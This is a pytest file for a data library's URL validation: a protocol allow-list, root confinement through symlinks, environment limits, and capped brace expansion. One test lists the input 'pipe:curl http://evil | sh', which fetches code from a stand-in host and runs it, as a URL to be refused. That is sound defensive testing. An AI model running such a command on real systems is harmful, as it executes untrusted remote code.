"""The protocol allow-list, brace expansion and the DataSpec checks built on them."""

from __future__ import annotations

import os

import pytest
from pydantic import ValidationError

from jobs.contract.data import DataSpec
from jobs.contract.urls import (
    MAX_BRACE_URLS,
    DataSource,
    check_url,
    count_braces,
    dataset_location,
    expand_braces,
    missing_urls,
    open_url,
    parse_source,
)


@pytest.mark.parametrize(
    ("url", "reason"),
    [
        ("pipe:curl http://evil | sh", "pipe:"),
        ("PIPE:cat x", "pipe:"),
        ("ftp://host/data.tar", "protocol 'ftp' is not allowed"),
        ("http://host/data.tar", "protocol 'http' is not allowed"),
        ("hdfs://nn/data.tar", "protocol 'hdfs' is not allowed"),
        ("simplecache::s3://b/x.tar", "chained"),
        ("s3://", "expected s3://"),
        ("", "empty URL"),
        ("   ", "empty URL"),
    ],
)
def test_refused_urls_name_the_reason(url, reason):
    with pytest.raises(ValueError) as caught:
        check_url(url)
    assert reason in str(caught.value)


@pytest.mark.parametrize(
    "url",
    ["s3://bucket/prefix/x.tar", "gs://b/x", "gcs://b/x", "https://host/x.tar", "memory://x/y"],
)
def test_allowed_remote_urls_pass_unchanged(url):
    assert check_url(f"  {url} ") == url


def test_protocols_can_be_narrowed():
    with pytest.raises(ValueError, match="allowed: file"):
        check_url("s3://b/x", allowed_protocols={"file"})


def test_local_paths_are_normalised(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    assert check_url("data/x.tar") == str(tmp_path / "data" / "x.tar")
    assert check_url(f"file://{tmp_path}/a/../b.tar") == str(tmp_path / "b.tar")


def test_allowed_roots_confine_local_paths_even_through_symlinks(tmp_path):
    inside, outside = tmp_path / "inside", tmp_path / "outside"
    inside.mkdir()
    outside.mkdir()
    os.symlink(outside, inside / "escape")
    roots = [str(inside)]
    assert check_url(str(inside / "x.tar"), allowed_roots=roots) == str(inside / "x.tar")
    for url in (str(outside / "x.tar"), str(inside / ".." / "outside"), str(inside / "escape")):
        with pytest.raises(ValueError, match="outside the allowed roots"):
            check_url(url, allowed_roots=roots)
    # remote URLs are not subject to local roots
    assert check_url("s3://b/x", allowed_roots=roots) == "s3://b/x"


def test_the_environments_limits_apply_to_every_check_and_open(tmp_path, monkeypatch):
    """TOPK_ALLOWED_ROOTS applies where the caller names no roots (a caller's own roots win);
    TOPK_ALLOWED_PROTOCOLS narrows the caller's protocols; open_url checks what it opens."""
    inside, outside = tmp_path / "inside", tmp_path / "outside"
    inside.mkdir()
    outside.mkdir()
    (outside / "x.tar").write_bytes(b"data")
    (inside / "x.tar").write_bytes(b"data")
    monkeypatch.setenv("TOPK_ALLOWED_ROOTS", str(inside))
    monkeypatch.setenv("TOPK_ALLOWED_PROTOCOLS", "file,s3")
    assert check_url(str(inside / "x.tar")) == str(inside / "x.tar")
    with pytest.raises(ValueError, match="outside the allowed roots"):
        check_url(str(inside / ".." / "outside" / "x.tar"))
    assert check_url(str(outside / "x.tar"), allowed_roots=[str(outside)]) == str(outside / "x.tar")
    with pytest.raises(ValueError, match=r"protocol 'https' is not allowed \(allowed: file, s3\)"):
        check_url("https://host/x.tar")
    with pytest.raises(ValueError, match=r"protocol 's3' is not allowed \(allowed: file\)"):
        check_url("s3://b/x.tar", allowed_protocols={"file", "https"})
    with pytest.raises(ValueError, match="outside the allowed roots"):
        open_url(str(outside / "x.tar"))
    with pytest.raises(ValueError, match="outside the allowed roots"):
        open_url(str(outside / "new.tar"), "wb")
    assert not (outside / "new.tar").exists()
    with open_url(f"file://{inside}/x.tar") as handle:
        assert handle.read() == b"data"
    monkeypatch.setenv("TOPK_ALLOWED_ROOTS", "")  # empty: no root limit
    assert check_url(str(outside / "x.tar")) == str(outside / "x.tar")


def test_expand_braces():
    assert expand_braces("s3://b/train-{000..003}.tar") == [
        f"s3://b/train-{i:03d}.tar" for i in range(4)
    ]
    assert expand_braces("x{8..10}") == ["x8", "x9", "x10"]
    assert expand_braces("{a,b}-{0..1}") == ["a-0", "a-1", "b-0", "b-1"]
    assert expand_braces("plain.tar") == ["plain.tar"]
    for bad in ("x{1..0}", "x{1..3", "x}", "x{abc}", "a}{1,2}", "{a{b,c}}"):
        with pytest.raises(ValueError):
            expand_braces(bad)


def test_brace_patterns_are_counted_before_they_expand():
    assert count_braces("s3://b/{train,val}-{000..099}.tar") == 200
    assert count_braces("plain.tar") == 1
    assert len(expand_braces(f"x-{{1..{MAX_BRACE_URLS}}}")) == MAX_BRACE_URLS
    # Each of these would take gigabytes to expand; refused from the count alone.
    for huge, count in [
        ("x-{0..99999999}.tar", "100,000,000"),
        ("{0..999}-{0..999}", "1,000,000"),
        ("a{0..9}" * 10, "10,000,000,000"),
    ]:
        with pytest.raises(ValueError, match=f"names {count} URLs; at most 100,000"):
            expand_braces(huge)
    # A bound with thousands of digits is refused without converting it, and the message
    # quotes at most 200 characters of the pattern.
    digits = "9" * 5000
    with pytest.raises(ValueError, match="too many digits") as caught:
        expand_braces(f"x{{{digits}..{digits}9}}")
    assert len(str(caught.value)) < 600


def test_missing_urls_on_local_and_memory(tmp_path):
    import fsspec

    (tmp_path / "a.tar").write_bytes(b"x")
    assert missing_urls([str(tmp_path / "a.tar"), str(tmp_path / "b.tar")]) == [
        str(tmp_path / "b.tar")
    ]
    with fsspec.open("memory://urltest/a.tar", "wb") as handle:
        handle.write(b"x")
    assert missing_urls(["memory://urltest/a.tar", "memory://urltest/c.tar"]) == [
        "memory://urltest/c.tar"
    ]
    assert missing_urls(["memory://nowhere/a.tar"]) == ["memory://nowhere/a.tar"]


@pytest.mark.parametrize(
    ("train", "location"),
    [
        ("pipe:cat shard.tar", ("train",)),
        (["s3://b/ok.tar", "simplecache::s3://b/x.tar"], ("train",)),
        ("s3://b/x-{3..1}.tar", ("train",)),
    ],
)
def test_data_spec_refuses_bad_urls_with_the_field_path(train, location):
    with pytest.raises(ValidationError) as caught:
        DataSpec(train=train, num_classes=10)
    assert caught.value.errors()[0]["loc"] == location


def test_data_spec_checks_normalisation_against_channels():
    DataSpec(train="d/", num_classes=3, channels=3, augment={"mean": [0.1, 0.2, 0.3]})
    with pytest.raises(ValidationError, match="augment.mean has 2 values"):
        DataSpec(train="d/", num_classes=3, channels=3, augment={"mean": [0.1, 0.2]})
    with pytest.raises(ValidationError, match="std"):
        DataSpec(train="d/", num_classes=3, augment={"std": [0.0]})
    with pytest.raises(ValidationError, match="extra"):
        DataSpec(train="d/", num_classes=3, shuffle=True)


def test_a_protocol_without_its_driver_is_a_clear_error():
    try:
        import gcsfs  # noqa: F401
    except ImportError:
        with pytest.raises(ValueError, match="cannot open gs://b.*install gcsfs"):
            missing_urls(["gs://b/x.tar"])
    else:
        pytest.skip("gcsfs is installed here")


def test_one_rule_tells_shards_from_datasets():
    assert parse_source("s3://b/ds/train-{000..009}.tar") == DataSource(
        shards=("s3://b/ds/train-{000..009}.tar",)
    )
    assert parse_source("d/train-000.tar.gz").shards == ("d/train-000.tar.gz",)
    assert parse_source("d/train-000.tgz/").shards == ("d/train-000.tgz/",)
    assert parse_source(["a.tar", "b.tar"]).shards == ("a.tar", "b.tar")
    assert parse_source("s3://b/ds") == DataSource(dataset="s3://b/ds")
    assert parse_source("/d/x/dataset.json#test") == DataSource(
        dataset="/d/x/dataset.json", split="test"
    )
    assert parse_source("/d/x#") == DataSource(dataset="/d/x", split="")
    with pytest.raises(ValueError, match="empty list"):
        parse_source([])


def test_dataset_location_of_each_source_form():
    assert dataset_location("s3://b/ds/dataset.json") == "s3://b/ds/dataset.json"
    assert dataset_location("s3://b/ds/train-{000..009}.tar") == "s3://b/ds"
    assert dataset_location(["/d/x/train-0.tar", "/d/x/train-1.tar"]) == "/d/x"
    assert dataset_location("/d/x/dataset.json#test") == "/d/x/dataset.json"
    # a single compressed shard lives in its folder (it used to be taken for the dataset itself)
    assert dataset_location("d/train-000.tar.gz") == "d"
    assert dataset_location("s3://b/ds/train-000.tgz") == "s3://b/ds"
